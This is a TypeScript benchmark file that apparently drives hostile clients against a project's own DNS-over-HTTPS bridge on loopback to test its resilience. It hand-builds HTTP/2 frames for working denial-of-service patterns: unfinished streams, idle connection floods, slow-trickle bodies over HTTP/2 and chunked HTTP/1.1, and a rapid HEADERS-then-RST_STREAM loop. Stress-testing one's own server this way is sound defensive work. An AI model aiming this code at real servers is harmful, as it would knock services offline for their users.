/**
 * Hostile clients of the DoH bridge, for `bench/bridge-attack.ts` (issue 18),
 * run in their own process by `bench/bridge-server.ts attack <kind> <port>`.
 * They connect from 127.0.0.2 (the probe from 127.0.0.1: two hosts, as on a
 * network; Linux routes all of 127/8 to lo). They speak raw HTTP/2 frames (RFC 9113 §4, HPACK static table entries of
 * RFC 7541 Appendix A) where Node's client would hold back, and loop until
 * killed:
 * - `streams`: 4 h2c sessions, each opening 25,000 POST streams whose bodies
 *   never come (HEADERS without END_STREAM), reconnecting 1 s after being cut off;
 * - `idle`: 1,100 connections that send the HTTP/2 preface and then nothing,
 *   each reopened 1 s after it is closed;
 * - `trickle-h2`: 200 streams on 20 sessions sending a body one byte a second;
 * - `trickle-h1`: 200 HTTP/1.1 requests with a chunked body that never ends;
 * - `resets`: HEADERS then RST_STREAM, 100,000 times, on reconnecting sessions.
 */
import net from 'node:net';

/** The attacker's address. */
const FROM = '127.0.0.2';
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const HEADERS = 0x1;
const DATA = 0x0;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const END_HEADERS = 0x4;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

/** A literal header field without indexing, name from the static table (RFC 7541 §6.2.2; index < 15). */
function literal(index: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
}

/** POST /dns-query, content-type application/dns-message, as one HPACK block. */
const REQUEST = Buffer.concat([
  Buffer.from([0x83, 0x86]), // :method POST, :scheme http (static 3, 6)
  literal(4, '/dns-query'), // :path
  literal(1, 'bridge'), // :authority
  Buffer.from([0x0f, 0x10, 23]), Buffer.from('application/dns-message'), // content-type (static 31)
]);

function h2c(port: number, onReady: (s: net.Socket) => void): net.Socket {
  const s = net.connect({ port, host: '127.0.0.1', localAddress: FROM }, () => {
    s.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
    onReady(s);
  });
  s.on('error', () => undefined);
  s.on('data', () => undefined);
  return s;
}

/** Keep `n` copies of `open` alive: each one closed is opened again after `pause` ms. */
function keep(n: number, pause: number, open: () => net.Socket): void {
  const one = (): void => {
    open().once('close', () => setTimeout(one, pause));
  };
  for (let i = 0; i < n; i++) one();
}

function streams(port: number): void {
  keep(4, 1000, () => h2c(port, (s) => {
    let id = 1;
    const burst = (): void => {
      if (s.destroyed || id > 50_000) return;
      const out: Buffer[] = [];
      for (let i = 0; i < 500; i++, id += 2) out.push(frame(HEADERS, END_HEADERS, id, REQUEST));
      if (s.write(Buffer.concat(out))) setImmediate(burst);
      else s.once('drain', burst);
    };
    burst();
  }));
}

function idle(port: number): void {
  keep(1100, 1000, () => h2c(port, () => undefined));
}

function trickleH2(port: number): void {
  keep(20, 100, () => h2c(port, (s) => {
    const ids = Array.from({ length: 10 }, (_, i) => 1 + 2 * i);
    s.write(Buffer.concat(ids.map((id) => frame(HEADERS, END_HEADERS, id, REQUEST))));
    const t = setInterval(() => {
      if (s.destroyed) return clearInterval(t);
      s.write(Buffer.concat(ids.map((id) => frame(DATA, 0, id, Buffer.from([0])))));
    }, 1000);
  }));
}

function trickleH1(port: number): void {
  keep(200, 100, () => {
    const s = net.connect({ port, host: '127.0.0.1', localAddress: FROM }, () => {
      s.write('POST /dns-query HTTP/1.1\r\nhost: bridge\r\ncontent-type: application/dns-message\r\ntransfer-encoding: chunked\r\n\r\n');
      const t = setInterval(() => {
        if (s.destroyed) return clearInterval(t);
        s.write('1\r\nA\r\n');
      }, 1000);
    });
    s.on('error', () => undefined);
    s.on('data', () => undefined);
    return s;
  });
}

function resets(port: number): void {
  let total = 0;
  keep(4, 10, () => h2c(port, (s) => {
    let id = 1;
    const burst = (): void => {
      if (s.destroyed || total >= 100_000) return;
      const out: Buffer[] = [];
      for (let i = 0; i < 200; i++, id += 2, total++) {
        out.push(frame(HEADERS, END_HEADERS, id, REQUEST), frame(RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
      }
      if (s.write(Buffer.concat(out))) setImmediate(burst);
      else s.once('drain', burst);
    };
    burst();
  }));
}

export const ATTACKS = { streams, idle, 'trickle-h2': trickleH2, 'trickle-h1': trickleH1, resets } as const;
export type AttackKind = keyof typeof ATTACKS;
